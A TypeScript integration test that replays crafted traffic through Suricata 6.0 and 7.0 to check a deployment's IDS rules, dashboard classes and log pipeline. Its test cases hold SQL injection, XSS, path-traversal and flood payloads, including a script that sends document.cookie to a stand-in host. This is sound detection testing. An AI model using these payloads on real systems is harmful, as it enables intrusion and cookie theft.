/**
 * Suricata run for real, at the deployed 6.0 (6.0.1, bullseye's, from the tool cache; Ubuntu 22.04 runs 6.0.4)
 * and at 7.0 (7.0.10, Debian 12's backport; Ubuntu 24.04 runs 7.0.3), each with its own packaged files:
 * `suricata -T` and `--dump-config` on the packaged `suricata.yaml` with the rendered overlay included the way the
 * apply includes it, then traffic made here, captured with tcpdump and read back with `suricata -r`:
 * - on the public interface (an `enp1s0`, found from the default route by the deploy script itself): SQL
 *   injection, XSS, path traversal, scanner user agents, a login flood, a SYN sweep, SSH and PostgreSQL
 *   connection floods, and normal requests;
 * - on the application's bridge (`br-<12 hex>`, as Docker names it), where Traefik forwards in clear text to the
 *   backend's :8080: the same web requests, all from Traefik's one address.
 * Each request must raise exactly its expected local sids (matched on its own source address and port) and
 * the normal ones none. The eve.json lines then go through Alloy's generated pipeline and the Security Events
 * dashboard's LogQL, and each alert must land in its attack class.
 *
 * What differs from the host, and why: the packaged files are copied to a temporary directory (`--set` points
 * the rule, classification and reference paths there, `-l` the logs); `suricata.rules` is the local rules file
 * alone (suricata-update adds Emerging Threats Open on the host; it cannot be fetched here); `-k none` because
 * veth and bridge frames carry checksums left to the (absent) offload hardware; the lab's bridge subnet stands
 * in for Docker's pools in `security.suricata.dockerNetworks`, and the bridge name is set since there is no
 * Docker engine to ask (tests/lab/security.suricata.capture.test.ts covers `auto`).
 */
import * as fs from "fs";
import * as path from "path";
import YAML from "yaml";
import { SECURITY_CATEGORIES, categoryOfSignature, type SecurityCategory } from "../../contract/securityCategories";
import { buildDashboards } from "../../dashboards";
import { alloyConfig } from "../../logs/alloy";
import type { AlloyBlock } from "../../logs/alloySyntax";
import { renderSecurityFiles } from "../../security/files";
import { SURICATA_INCLUDE_LINE, SURICATA_PATHS } from "../../security/suricata";
import { captureScript } from "../../security/suricataCapture";
import { LOGIN_PATH, localRules } from "../../security/suricataRules";
import { placeholderSecrets, type Settings } from "../../settings";
import { toolLibraryPath, toolPath, toolRoot } from "../../toolchain/cache";
import { runPipeline, type LogEntry } from "../helpers/alloyPipeline";
import { logSelector } from "../helpers/logqlLines";
import { stackSettings } from "../helpers/stacks";
import {
  HTTP_SERVER,
  Lab,
  ipBatch,
  must,
  readEve,
  runClient,
  type ClientResult,
  type ClientStep,
} from "../helpers/suricataLab";
import { describeWithTools, run, tempDir } from "../helpers/tools";

/** The deployed 6.0 and the 7.0 the VPS goes to next: the same files and captures, read by each. */
const VERSIONS = [
  { tool: "suricata", binary: "suricata", version: "6.0" },
  { tool: "suricata7", binary: "suricata7", version: "7.0" },
] as const;
type Version = (typeof VERSIONS)[number];

/**
 * A log line of Suricata at error or warning level: `<Error>`/`<Warning>` in 6.0, `Error:`/`Warning:` in 7.0.
 */
const PROBLEM = /<(Error|Warning)>|^(Error|Warning): /;
const prod = stackSettings("prod");

/** The lab: public side 10.215.1.0/24, the bridge 10.215.2.0/24 (this test's part of 10.215.0.0/16). */
const NET = {
  vpsPublic: "10.215.1.1",
  internet: "10.215.1.2",
  bridgeGateway: "10.215.2.1",
  traefik: "10.215.2.2",
  backend: "10.215.2.3",
  bridgeSubnet: "10.215.2.0/24",
} as const;
const PUBLIC_IF = "enp1s0";
const BRIDGE_IF = "br-5e1c7a9d03f2";
/** One source address per kind of traffic on the public side, so per-source thresholds do not mix. */
const FROM = {
  normal: "10.215.1.10",
  attacks: "10.215.1.11",
  loginFlood: "10.215.1.12",
  sweep: "10.215.1.13",
  sshFlood: "10.215.1.14",
  pgFlood: "10.215.1.15",
} as const;

/** The datagram sent after the traffic: a capture is complete once it holds it. */
const END_MARKER = `koprogo-suricata-capture-end-${process.pid}`;

const labSettings: Settings = {
  ...prod.settings,
  security: {
    ...prod.settings.security,
    suricata: { ...prod.settings.security.suricata, appBridge: BRIDGE_IF, dockerNetworks: [NET.bridgeSubnet] },
  },
};

/** A raw HTTP/1.1 request, as a client sends it (the target is written as is: no normalisation on the way). */
function request(method: string, target: string, options: { ua?: string; body?: string; type?: string } = {}): string {
  const headers = [
    `${method} ${target} HTTP/1.1`,
    "Host: koprogo.example",
    `User-Agent: ${options.ua ?? "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}`,
    "Accept: */*",
    "Connection: close",
  ];
  if (options.body !== undefined)
    headers.push(
      `Content-Type: ${options.type ?? "application/json"}`,
      `Content-Length: ${Buffer.byteLength(options.body)}`,
    );
  return `${headers.join("\r\n")}\r\n\r\n${options.body ?? ""}`;
}

interface WebCase {
  readonly id: string;
  readonly http: string;
  /** Local sids this request raises, sorted. */
  readonly sids: number[];
}

const LOGIN_BODY = JSON.stringify({ email: "owner@example.org", password: "wrong" });
const WEB: readonly WebCase[] = [
  { id: "normal: health check", http: request("GET", "/api/v1/health"), sids: [] },
  { id: "normal: a page of buildings", http: request("GET", "/api/v1/buildings?page=2&sort=name"), sids: [] },
  { id: "normal: a name with an apostrophe", http: request("GET", "/api/v1/owners?name=O%27Brien"), sids: [] },
  { id: "normal: the trade-union page", http: request("GET", "/api/v1/trade-union?select=name"), sids: [] },
  { id: "normal: a login", http: request("POST", LOGIN_PATH, { body: LOGIN_BODY }), sids: [] },
  {
    id: "normal: a comment",
    http: request("POST", "/api/v1/comments", {
      body: JSON.stringify({ text: "Meeting on Monday, select a time please" }),
    }),
    sids: [],
  },
  { id: "normal: a static file", http: request("GET", "/assets/app.3f2a9c.js"), sids: [] },
  {
    id: "sqli: UNION SELECT in the query string",
    http: request("GET", "/api/v1/buildings?id=1%20UNION%20ALL%20SELECT%20NULL,version()--"),
    sids: [1_000_001],
  },
  {
    id: "sqli: a tautology",
    http: request("GET", "/api/v1/owners?name=admin%27%20or%20%271%27=%271"),
    sids: [1_000_002],
  },
  {
    id: "sqli: a time-based probe",
    http: request("GET", "/api/v1/buildings?id=1;select%20pg_sleep(10)"),
    sids: [1_000_003],
  },
  {
    id: "sqli: UNION SELECT in a form body",
    http: request("POST", "/api/v1/search", {
      body: "q=1+union+select+password+from+users",
      type: "application/x-www-form-urlencoded",
    }),
    sids: [1_000_004],
  },
  {
    id: "xss: a script tag in the query string",
    http: request("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    sids: [1_000_101],
  },
  { id: "xss: a javascript: redirect", http: request("GET", "/login?next=javascript:alert(1)"), sids: [1_000_102] },
  {
    id: "xss: a script tag in a JSON body",
    http: request("POST", "/api/v1/comments", {
      body: JSON.stringify({ text: "<script>fetch('//evil.example/'+document.cookie)</script>" }),
    }),
    sids: [1_000_103],
  },
  // The raw URI carries `../`; the normalised one (libhtp resolves the dot segments) is /etc/passwd: both rules.
  {
    id: "path traversal: ../ to /etc/passwd",
    http: request("GET", "/static/..%2f..%2f..%2fetc/passwd"),
    sids: [1_000_201, 1_000_202],
  },
  {
    id: "path traversal: ..\\ with an encoded backslash",
    http: request("GET", "/static/..%5c..%5cconfig.toml"),
    sids: [1_000_201],
  },
  {
    id: "path traversal: a system file as a parameter",
    http: request("GET", "/api/v1/documents/download?file=/etc/passwd"),
    sids: [1_000_202],
  },
  {
    id: "scan: sqlmap's user agent",
    http: request("GET", "/api/v1/health", { ua: "sqlmap/1.7.2#stable (https://sqlmap.org)" }),
    sids: [1_000_301],
  },
  {
    id: "scan: Nikto's user agent",
    http: request("GET", "/", { ua: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)" }),
    sids: [1_000_301],
  },
];

/** The login flood: 12 POSTs in about a second; the rule counts 10 a minute per source, so the 10th alerts. */
const LOGIN_FLOOD = 12;
const LOGIN_ALERT_AT = 10;

function webSteps(from: (c: WebCase) => string, to: string, port: number): ClientStep[] {
  return WEB.map((c) => ({ id: c.id, from: from(c), to, port, http: c.http }));
}
function floodSteps(
  prefix: string,
  from: string,
  to: string,
  port: number,
  count: number,
  http?: string,
): ClientStep[] {
  return Array.from({ length: count }, (_, i) =>
    http
      ? { id: `${prefix} #${i + 1}`, from, to, port, http }
      : { id: `${prefix} #${i + 1}`, from, to, port: port + i, syn: true as const },
  );
}

interface Alert {
  readonly line: string;
  readonly sid: number;
  readonly signature: string;
  readonly srcIp: string;
  readonly srcPort: number;
}

function alertsOf(dir: string): { alerts: Alert[]; lines: string[] } {
  const events = readEve(dir);
  const alerts = events
    .filter((e) => e.event.event_type === "alert")
    .map(({ line, event }) => {
      const alert = event.alert as { signature_id: number; signature: string };
      return {
        line,
        sid: alert.signature_id,
        signature: alert.signature,
        srcIp: event.src_ip as string,
        srcPort: event.src_port as number,
      };
    });
  return { alerts, lines: events.map((e) => e.line) };
}

const sidsOf = (alerts: readonly Alert[], result: ClientResult): number[] =>
  alerts
    .filter((a) => a.srcIp === result.from && a.srcPort === result.localPort)
    .map((a) => a.sid)
    .sort((x, y) => x - y);

describeWithTools(
  "Suricata on the rendered configuration, with traffic captured here",
  ["ip", "tcpdump", ...VERSIONS.map((v) => toolPath(v.binary))],
  () => {
    const lab = new Lab("ksur");
    let dir: string;
    let removeDir: () => void;
    const results: Record<"public" | "bridge", ClientResult[]> = { public: [], bridge: [] };
    const pcaps = { public: "", bridge: "" };

    /** One version's copy of /etc/suricata and what it made of it. */
    interface Run {
      dir: string;
      etc: string;
      captureLog: string;
      selfTest: { status: number; output: string };
      replayOutput: string;
      eve: Record<"public" | "bridge", { alerts: Alert[]; lines: string[] }>;
      suricata: (args: string[]) => { status: number; output: string };
    }
    const runs = new Map<Version["version"], Run>();

    /** The packaged configuration of `v`, the overlay written where the files go, and the deploy's edits. */
    function install(v: Version, vps: string): Run {
      const root = path.join(dir, v.tool);
      const etc = path.join(root, "etc", "suricata");
      fs.cpSync(path.join(toolRoot(v.tool), "etc", "suricata"), etc, { recursive: true });
      for (const file of renderSecurityFiles(labSettings, placeholderSecrets())) {
        if (!file.path.startsWith("suricata/") || file.path.startsWith("suricata/systemd/")) continue;
        fs.mkdirSync(path.dirname(path.join(root, "etc", file.path)), { recursive: true });
        fs.writeFileSync(path.join(root, "etc", file.path), file.content);
      }
      // What the apply does to the packaged file (security/agents.ts), and what suricata-update makes of the rules.
      fs.appendFileSync(path.join(etc, "suricata.yaml"), `\n${SURICATA_INCLUDE_LINE}\n`);
      fs.mkdirSync(path.join(root, "rules"));
      fs.copyFileSync(path.join(etc, "rules", "koprogo-local.rules"), path.join(root, "rules", "suricata.rules"));
      const env = { ...process.env, LD_LIBRARY_PATH: toolLibraryPath(v.tool) };
      const suricata = (args: string[]) =>
        run(
          toolPath(v.binary),
          [
            "-c",
            path.join(etc, "suricata.yaml"),
            "--set",
            `default-rule-path=${path.join(root, "rules")}`,
            "--set",
            `classification-file=${path.join(etc, "classification.config")}`,
            "--set",
            `reference-config-file=${path.join(etc, "reference.config")}`,
            "--set",
            `threshold-file=${path.join(etc, "threshold.config")}`,
            ...args,
          ],
          { env, cwd: root },
        );
      // The deploy script itself writes the capture file, on the "VPS": the public interface from its default route.
      const captureLog = must("ip", [
        "netns",
        "exec",
        vps,
        "sh",
        "-c",
        captureScript(labSettings, {
          template: path.join(etc, "koprogo-capture.yaml.in"),
          output: path.join(etc, "koprogo-capture.yaml"),
        }),
      ]);
      const selfTest = suricata(["-T", "-v", "-l", root]);
      return {
        dir: root,
        etc,
        captureLog,
        selfTest,
        replayOutput: "",
        eve: { public: { alerts: [], lines: [] }, bridge: { alerts: [], lines: [] } },
        suricata,
      };
    }

    beforeAll(async () => {
      ({ dir, remove: removeDir } = tempDir("koprogo-suricata-run"));

      // The VPS, the internet, Traefik and the backend.
      const vps = lab.addNamespace("vps");
      const internet = lab.addNamespace("inet");
      const traefik = lab.addNamespace("trfk");
      const backend = lab.addNamespace("back");
      lab.veth({ ns: vps, name: PUBLIC_IF }, { ns: internet, name: "eth0" });
      lab.veth({ ns: vps, name: "veth-trfk" }, { ns: traefik, name: "eth0" });
      lab.veth({ ns: vps, name: "veth-back" }, { ns: backend, name: "eth0" });
      ipBatch(vps, [
        `addr add ${NET.vpsPublic}/24 dev ${PUBLIC_IF}`,
        `link set ${PUBLIC_IF} up`,
        `route add default via ${NET.internet} dev ${PUBLIC_IF}`,
        `link add ${BRIDGE_IF} type bridge`,
        `addr add ${NET.bridgeGateway}/24 dev ${BRIDGE_IF}`,
        `link set ${BRIDGE_IF} up`,
        `link set veth-trfk master ${BRIDGE_IF}`,
        `link set veth-back master ${BRIDGE_IF}`,
        "link set veth-trfk up",
        "link set veth-back up",
      ]);
      ipBatch(internet, [
        `addr add ${NET.internet}/24 dev eth0`,
        ...Object.values(FROM).map((a) => `addr add ${a}/24 dev eth0`),
        "link set eth0 up",
      ]);
      ipBatch(traefik, [`addr add ${NET.traefik}/24 dev eth0`, "link set eth0 up"]);
      ipBatch(backend, [`addr add ${NET.backend}/24 dev eth0`, "link set eth0 up"]);

      for (const v of VERSIONS) runs.set(v.version, install(v, vps));

      await lab.start(vps, process.execPath, ["-e", HTTP_SERVER, `${NET.vpsPublic}:80`], /listening/);
      await lab.start(backend, process.execPath, ["-e", HTTP_SERVER, `${NET.backend}:8080`], /listening/);
      pcaps.public = path.join(dir, "public.pcap");
      pcaps.bridge = path.join(dir, "bridge.pcap");
      const marker = (ns: string, from: string, to: string) => () =>
        void runClient(ns, [{ id: "end", from, to, port: 9, datagram: END_MARKER }]);
      const captures = [
        {
          file: pcaps.public,
          tcpdump: await lab.capture(vps, PUBLIC_IF, pcaps.public),
          sendMarker: marker(internet, NET.internet, NET.vpsPublic),
        },
        {
          file: pcaps.bridge,
          tcpdump: await lab.capture(vps, BRIDGE_IF, pcaps.bridge),
          sendMarker: marker(traefik, NET.traefik, NET.backend),
        },
      ];
      results.public = runClient(internet, [
        ...webSteps((c) => (c.id.startsWith("normal") ? FROM.normal : FROM.attacks), NET.vpsPublic, 80),
        ...floodSteps(
          "login flood",
          FROM.loginFlood,
          NET.vpsPublic,
          80,
          LOGIN_FLOOD,
          request("POST", LOGIN_PATH, { body: LOGIN_BODY }),
        ),
        // 25 closed ports from 1000 up: a sweep (the rule counts 20 SYNs in 10 s to other than the services' ports).
        ...floodSteps("SYN sweep", FROM.sweep, NET.vpsPublic, 1000, 25),
        ...Array.from({ length: 12 }, (_, i): ClientStep => ({
          id: `SSH flood #${i + 1}`,
          from: FROM.sshFlood,
          to: NET.vpsPublic,
          port: prod.settings.security.sshPort,
          syn: true,
        })),
        ...Array.from({ length: 12 }, (_, i): ClientStep => ({
          id: `PostgreSQL flood #${i + 1}`,
          from: FROM.pgFlood,
          to: NET.vpsPublic,
          port: 5432,
          syn: true,
        })),
      ]);
      // On the bridge every request comes from Traefik's one address, as in production.
      results.bridge = runClient(traefik, [
        ...webSteps(() => NET.traefik, NET.backend, 8080),
        ...floodSteps(
          "login flood",
          NET.traefik,
          NET.backend,
          8080,
          LOGIN_FLOOD,
          request("POST", LOGIN_PATH, { body: LOGIN_BODY }),
        ),
      ]);
      for (const capture of captures)
        await lab.stopCapture(capture.tcpdump, capture.file, END_MARKER, capture.sendMarker);

      for (const current of runs.values()) {
        for (const hop of ["public", "bridge"] as const) {
          const logDir = path.join(current.dir, `log-${hop}`);
          fs.mkdirSync(logDir);
          // One detect thread. With several (autofp, the pcap default), 6.0.1's per-source threshold counts depend
          // on thread timing: six reads of one complete capture gave 14 to 17 alerts, each threshold rule missing
          // from some; 7.0.10 gave the same 17 every time. The rules and configuration are the same.
          const replay = current.suricata(["-r", pcaps[hop], "-k", "none", "--runmode", "single", "-l", logDir]);
          current.replayOutput += `${hop}: ${fs.statSync(pcaps[hop]).size} bytes, status ${replay.status}\n${replay.output}\n`;
          current.eve[hop] = alertsOf(logDir);
        }
      }
    }, 90_000);

    afterAll(async () => {
      await lab.destroy();
      removeDir?.();
    });

    it("is prod's render but for the lab's Docker network range (the bridge's name only goes into the deploy script)", () => {
      const rendered = (s: Settings) =>
        new Map(
          renderSecurityFiles(s, placeholderSecrets())
            .filter((f) => f.path.startsWith("suricata/"))
            .map((f) => [f.path, f.content]),
        );
      const [lab, production] = [rendered(labSettings), rendered(prod.settings)];
      expect([...lab.keys()]).toEqual([...production.keys()]);
      for (const [file, content] of production) {
        const expected =
          file === "suricata/koprogo.yaml"
            ? content.replace(
                `DOCKER_NETS: "[${prod.settings.security.suricata.dockerNetworks.join(",")}]"`,
                `DOCKER_NETS: "[${NET.bridgeSubnet}]"`,
              )
            : content;
        expect([file, lab.get(file)]).toEqual([file, expected]);
      }
      expect(lab.get("suricata/koprogo.yaml")).not.toBe(production.get("suricata/koprogo.yaml"));
    });

    it("got every web request answered", () => {
      const web = [...results.public, ...results.bridge].filter((r) => WEB.some((c) => c.id === r.id));
      expect(web).toHaveLength(2 * WEB.length);
      for (const r of web)
        expect([r.id, r.outcome]).toEqual([
          r.id,
          r.id === "normal: a login" ? "HTTP/1.1 401 Unauthorized" : "HTTP/1.1 200 OK",
        ]);
    });

    describe.each(VERSIONS.map((v) => [v.version, v] as const))("Suricata %s", (version) => {
      const current = () => runs.get(version)!;

      describe("the configuration", () => {
        it("gets its capture file from the deploy script: the public interface from the default route, and the bridge", () => {
          expect(current().captureLog.trim()).toBe(`suricata captures: ${PUBLIC_IF} ${BRIDGE_IF}`);
          const capture = YAML.parse(
            fs.readFileSync(path.join(current().etc, "koprogo-capture.yaml"), "utf8").replace(/^%YAML 1\.1\n/, ""),
          );
          expect(capture["af-packet"].map((entry: { interface: string }) => entry.interface)).toEqual([
            PUBLIC_IF,
            BRIDGE_IF,
            "default",
          ]);
        });

        it("passes suricata -T with the render included in its packaged suricata.yaml, without an error or a warning", () => {
          const { selfTest } = current();
          expect([selfTest.status, selfTest.output]).toEqual([
            0,
            expect.stringContaining(`This is Suricata version ${version}.`),
          ]);
          expect(selfTest.output).toContain("Configuration provided was successfully loaded");
          expect(selfTest.output).toContain(
            `${localRules(prod.settings).length} rules successfully loaded, 0 rules failed`,
          );
          expect(selfTest.output.split("\n").filter((line) => PROBLEM.test(line))).toEqual([]);
        });

        it("is what Suricata reads once merged: our variables, rules, log directory and capture interfaces", () => {
          const dump = current().suricata(["--dump-config"]);
          expect(dump.status).toBe(0);
          const values = Object.fromEntries(
            dump.output.split("\n").flatMap((line) => (/^(\S+) = (.*)$/.exec(line) ? [[RegExp.$1, RegExp.$2]] : [])),
          );
          expect(values).toMatchObject({
            "vars.address-groups.HOME_NET": "any",
            "vars.address-groups.EXTERNAL_NET": "any",
            "vars.address-groups.DOCKER_NETS": `[${NET.bridgeSubnet}]`,
            "vars.port-groups.HTTP_PORTS": "[80,8080]",
            "vars.port-groups.SSH_PORTS": String(prod.settings.security.sshPort),
            "default-log-dir": SURICATA_PATHS.logDir,
            "rule-files.0": "suricata.rules",
            "af-packet.0.interface": PUBLIC_IF,
            "af-packet.1.interface": BRIDGE_IF,
            "af-packet.2.interface": "default",
          });
          expect(Object.keys(values).filter((key) => /^af-packet\.\d+\.interface$/.test(key))).toHaveLength(3);
          expect(Object.keys(values).filter((key) => /^rule-files\.\d+$/.test(key))).toHaveLength(1);
          expect(values["default-rule-path"]).toBe(path.join(current().dir, "rules"));
        });

        it("defines every variable of its packaged suricata.yaml (a redefined `vars` replaces the packaged one), each usable in a rule", () => {
          const v = VERSIONS.find((x) => x.version === version)!;
          const packaged = YAML.parse(
            fs
              .readFileSync(path.join(toolRoot(v.tool), "etc", "suricata", "suricata.yaml"), "utf8")
              .replace(/^%YAML 1\.1\n/, ""),
          ).vars;
          const ours = YAML.parse(
            fs.readFileSync(path.join(current().etc, "koprogo.yaml"), "utf8").replace(/^%YAML 1\.1\n/, ""),
          ).vars;
          for (const group of ["address-groups", "port-groups"])
            expect(Object.keys(ours[group])).toEqual(expect.arrayContaining(Object.keys(packaged[group])));
          // A rule per variable: an undefined or unparsable one fails the load, as it would fail Emerging Threats rules.
          const rules = [
            ...Object.keys(ours["address-groups"]).map(
              (name, i) => `alert ip $${name} any -> any any (msg:"address ${name}"; sid:${9_000_000 + i}; rev:1;)`,
            ),
            ...Object.keys(ours["port-groups"]).map(
              (name, i) => `alert tcp any $${name} -> any any (msg:"port ${name}"; sid:${9_100_000 + i}; rev:1;)`,
            ),
          ];
          const file = path.join(current().dir, "vars.rules");
          fs.writeFileSync(file, `${rules.join("\n")}\n`);
          const check = current().suricata(["-T", "-v", "-S", file, "-l", current().dir]);
          expect([check.status, check.output.split("\n").filter((line) => PROBLEM.test(line))]).toEqual([0, []]);
          expect(check.output).toContain(`${rules.length} rules successfully loaded, 0 rules failed`);
        });
      });

      describe("the replay of the public interface", () => {
        it("reads the capture without an error", () => {
          expect(
            current()
              .replayOutput.split("\n")
              .filter((line) => /<Error>|^Error: /.test(line)),
          ).toEqual([]);
        });

        it.each(WEB.map((c) => [c.id, c.sids]))("%s raises %j", (id, sids) => {
          const result = results.public.find((r) => r.id === id)!;
          expect(sidsOf(current().eve.public.alerts, result)).toEqual(sids);
        });

        it(`raises the login brute-force rule once, on the ${LOGIN_ALERT_AT}th POST to ${LOGIN_PATH} from one address`, () => {
          const flood = results.public.filter((r) => r.id.startsWith("login flood"));
          expect(flood.map((r) => r.outcome)).toEqual(Array(LOGIN_FLOOD).fill("HTTP/1.1 401 Unauthorized"));
          expect(flood.map((r) => sidsOf(current().eve.public.alerts, r))).toEqual(
            flood.map((_, i) => (i + 1 === LOGIN_ALERT_AT ? [1_000_401] : [])),
          );
        });

        it.each([
          ["a SYN sweep of 25 closed ports", FROM.sweep, 1_000_302],
          ["12 connection attempts to SSH", FROM.sshFlood, 1_000_402],
          ["12 connection attempts to PostgreSQL", FROM.pgFlood, 1_000_403],
        ])("raises one alert for %s", (_, from, sid) => {
          expect(results.public.filter((r) => r.from === from).every((r) => r.outcome === "ECONNREFUSED")).toBe(true);
          expect(
            current()
              .eve.public.alerts.filter((a) => a.srcIp === from)
              .map((a) => a.sid),
          ).toEqual([sid]);
        });

        it("raises nothing else: every alert is one of the expected ones", () => {
          const expected = WEB.reduce((n, c) => n + c.sids.length, 0) + 1 + 3;
          expect(current().eve.public.alerts).toHaveLength(expected);
          expect(current().eve.public.alerts.filter((a) => a.srcIp === FROM.normal)).toEqual([]);
        });
      });

      describe("the replay of the application's bridge (Traefik to the backend's :8080, plain HTTP)", () => {
        it.each(WEB.map((c) => [c.id, c.sids]))("%s raises %j", (id, sids) => {
          const result = results.bridge.find((r) => r.id === id)!;
          expect(sidsOf(current().eve.bridge.alerts, result)).toEqual(sids);
        });

        it("does not count logins per source there: Traefik's address is every user at once (fail2ban and CrowdSec count them per client from its access log)", () => {
          const flood = results.bridge.filter((r) => r.id.startsWith("login flood"));
          expect(flood).toHaveLength(LOGIN_FLOOD);
          expect(flood.flatMap((r) => sidsOf(current().eve.bridge.alerts, r))).toEqual([]);
        });

        it("raises nothing else", () => {
          expect(current().eve.bridge.alerts).toHaveLength(WEB.reduce((n, c) => n + c.sids.length, 0));
        });
      });

      describe("the eve.json lines in the log pipeline and the Security Events dashboard", () => {
        const processBlock = alloyConfig(prod.settings).find(
          (s): s is AlloyBlock => s.kind === "block" && s.name === "loki.process",
        )!;
        const ship = (line: string): LogEntry =>
          runPipeline(processBlock, { job: "suricata", filename: `${SURICATA_PATHS.logDir}eve.json` }, line);
        const dashboard = buildDashboards(prod.settings).find((d) => d.key === "securityEvents")!.model;
        const byClass = (dashboard.panels ?? []).find((p) => p.title === "IDS alerts by attack class") as
          { targets?: { expr: string; legendFormat?: string }[] } | undefined;
        const classes = (byClass?.targets ?? []).map((t) => ({
          name: t.legendFormat ?? "",
          select: logSelector(t.expr),
        }));
        const total = (dashboard.panels ?? []).find((p) => p.title === "IDS alerts") as
          { targets?: { expr: string }[] } | undefined;
        const DASHBOARD_CLASS: Record<SecurityCategory, string[]> = {
          sqli: ["SQL injection"],
          xss: ["XSS"],
          pathTraversal: ["Path traversal"],
          scan: ["Port scan"],
          bruteforce: [],
        };
        const alerts = () => [...current().eve.public.alerts, ...current().eve.bridge.alerts];

        it("reads the four attack classes and the total from the dashboard", () => {
          expect(classes.map((c) => c.name)).toEqual(["SQL injection", "XSS", "Path traversal", "Port scan"]);
          expect(total?.targets).toHaveLength(1);
        });

        it("ships every alert with level warn and its signature id, category and severity as structured metadata", () => {
          expect(alerts().length).toBeGreaterThan(20);
          for (const alert of alerts()) {
            const entry = ship(alert.line);
            expect(entry.dropped).toBe(false);
            expect(entry.labels).toEqual({ job: "suricata", level: "warn" });
            expect(entry.metadata).toMatchObject({
              event_type: "alert",
              alert_signature_id: String(alert.sid),
              alert_severity: expect.stringMatching(/^[1-4]$/),
            });
            expect(entry.metadata.alert_category).toMatch(/\w/);
          }
        });

        it("counts each alert in its category's class, in no other, and in the total", () => {
          const totalSelect = logSelector(total!.targets![0].expr);
          for (const alert of alerts()) {
            const entry = ship(alert.line);
            const category = categoryOfSignature(alert.signature)!;
            expect([alert.signature, classes.filter((c) => c.select(entry)).map((c) => c.name)]).toEqual([
              alert.signature,
              DASHBOARD_CLASS[category],
            ]);
            expect(totalSelect(entry)).toBe(true);
          }
        });

        it("covers every category with at least one real alert", () => {
          const seen = new Set(alerts().map((a) => categoryOfSignature(a.signature)));
          expect([...seen].sort()).toEqual((Object.keys(SECURITY_CATEGORIES) as SecurityCategory[]).sort());
        });

        it("drops flow and stats events before Loki and counts no other event as an alert", () => {
          const other = [...current().eve.public.lines, ...current().eve.bridge.lines].filter(
            (line) => !line.includes('"event_type":"alert"'),
          );
          expect(other.length).toBeGreaterThan(0);
          const totalSelect = logSelector(total!.targets![0].expr);
          for (const line of other) {
            const entry = ship(line);
            const type = (JSON.parse(line) as { event_type: string }).event_type;
            expect([type, entry.dropped]).toEqual([type, prod.settings.alloy.suricataDropEventTypes.includes(type)]);
            if (!entry.dropped) expect([type, totalSelect(entry)]).toEqual([type, false]);
          }
        });
      });
    });
  },
);
